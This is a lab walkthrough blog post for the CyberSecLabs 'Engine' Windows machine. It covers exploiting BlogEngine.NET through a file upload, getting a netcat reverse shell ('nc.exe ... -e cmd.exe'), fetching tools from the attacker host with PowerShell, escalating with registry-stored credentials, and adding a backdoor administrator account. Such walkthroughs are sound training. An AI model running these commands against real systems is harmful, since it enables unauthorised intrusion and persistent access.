CyberSecLabs "ENGINE" Walkthrough - No Metasploit Version

Engine, a new Windows oriented machine from CyberSecLabs, is a neat examination of your ability to think simply, while utilizing some of the tools we have covered in our previous walkthroughs.  There are a few different paths to completing this challenge, and I will be showcasing a method that doesn't use Metasploit, while using Evil-Winrm rather than psexec or other tool.  So let's dig right in!


As always we need to understand our target before we start poking at it.  Let's kick things off with a basic Nmap scan followed by the -A scan.


nmap -A

As you can see we have a web server running on port80, SMB on 445, and RDP on 3389.  We can note that the machine's name is ENGINE for further reference.  Let's continue on.


We are going to start by checking out the webserver on Port 80, however we get a default page.

Default Windows IIS Webpage

This is actually a pretty common occurrence in a penetration test, and can oftentimes be running services within subdirectories.  We can check for the possibility of this using Dirsearch.
python3-u -e php,cgi,txt,exe,html -x 400,401,403 -r -R 3

Dirsearch has successfully located additional directories, and in this case specifically the /blog directory.  Let's check that out in the browser now and see what we find.

We can see a page named "Alex's Blog," which appears to be running  Additionally, we can attempt to log in by clicking the login button in the submenu above.

 BlogEngine Login page for Alex's Blog

I attempted to use default credentials I found online, but they were unsuccessful.  However, trying the tried and true "admin:admin" worked, and we successfully gained access to the administrator dashboard.  Let's go back to the BlogEngine service we discovered earlier, and do some research.  Searchsploit shows the following results.

searchsploit blogengine

BlogEngine appears to be vulnerable to directory traversal and remote code execution.  Let's do some research and see if one of theseexploits can help us gain access.  After some searching we do find that one of them (46353.cs) seems to fit our needs.

ExploitDB BlogEngine.NET 3.3.6 Exploit


Now that we have a possible exploit we need to figure out how to use it.  Fortunately this one is pretty straight forward.  We can copy it from our ExploitDB folder on Kali to our working directory and inspect it's requirements.

Copying 46353.cs from ExploitDB directory to our working directory

Information Modification

So there's a couple of things here.  First, we see in the bottom that we have to modify the IP address and port.  In the top we are instructed to save the file as "PostView.ascx" as this is the format that the BlogEngine service will recognize.  So modify as required, and save the file.  Once you've done this we can move ahead.
Now navigate through the dashboard to the edit menu for the one single post we can locate on the server.

Choose the post above

Click the File Manager button as shown above

From here you should see an upload button.  Select that, and upload your "PostView.ascx" file.
Uploading file

Now that the file is uploaded we need to navigate to the directory that we are shown in the exploit file.  But first, start a Netcatlistener listening on the port we specified in the exploit.  If you've followed the instructions correctly, you should get a reverse shell when you visit the site.
Reverse Shell -

You'll notice that the shell is funky and would benefit from an upgrade.  I do this by grabbing my Netcat binary using Powershell to get it from our Kali machine.  Remember to start your Python SimpleHTTPServer as well.

Bottom - python -m SimpleHTTPServer 8181; Top - powershell -c wget "" -outfile "nc.exe"

You can now start another Netcat listener on Kali, and run nc.exe from the target machine to connect back.  Let's do that now.
Bottom - nc -nlvp 5555; Top - nc.exe 5555 -e cmd.exe

Great! We now have a more stable shell. Unfortunately we find quickly that we do not have access privileges to the user or Admin folders.  We will need to escalate privileges.
User folder access denied

We canuse various methods to determine ways to escalate.  In this case I used winPEAS.  Let's grab that from our Tools folder on our Kali machine and run it.
powershell -c wget "" -outfile "winPEAS.exe"; winpeas.exe

We let winPEAS do it's thing, and once it's complete we can go through the results.  One thing sticks out, which is some default credentials that have been found hiding in registry.
Default Credentials Found

Now that we have what appears to be Administrator credentials we can attempt to log in with them.  Noting that we early found SMB running on the machine we can use psexec or,in the case of this walkthrough, Evil-WinRM.
evil-winrm -i -u administrator -p PzCEKhvj6gQMk7kA -s /root/Desktop/Tools

You'll notice that whoami returns administrator, which is what we hoped for.  Additionally, please make note of my use of the -s flag with the follow on directory.  This allows me you to run scripts and programs directly from the Toolsdirectory on your Kali machine.  Neat trick!  Let's grab our flags quick.

access.txt and system.txt flags found

If you're here for just the flags, then congratulations!  You have completed the challenge and can submit the hashes to the CSL dashboard for the machine.  If you are interested in some basic post-exploitation, then please continue on.

Post Exploitation

Now that we have administrative access we can think about how we can provide continued access in the future.  As with previous guides, we can simply create a user and add them to the administrator group.

net user themayor !Password!123 /add; net localgroup Administrators themayor /add

 We saw earlier that RDP is already enabled, so we don't need to enable it and can simply attempt to log in using XFreeRDP.

xfreerdp /u:themayor /p'!Password!123' /v:

And we are successfully in the Server 2012 environment.  Open up the server manager quick to verify that we are in the Administrator's group and you're all set.  Make sure you contact the client if required in the rules of engagement and let them know you have compromised the server.

Final Thoughts

Engine is a really neat challenge that required us to exploit a common poor password vulnerability, and showed us the potential issues surrounding passwords being stored in the machine and being found with easy to use tools.  I hope this challenge has helped you (it's definitely helped me) and I will see you nexttime!


Popular Posts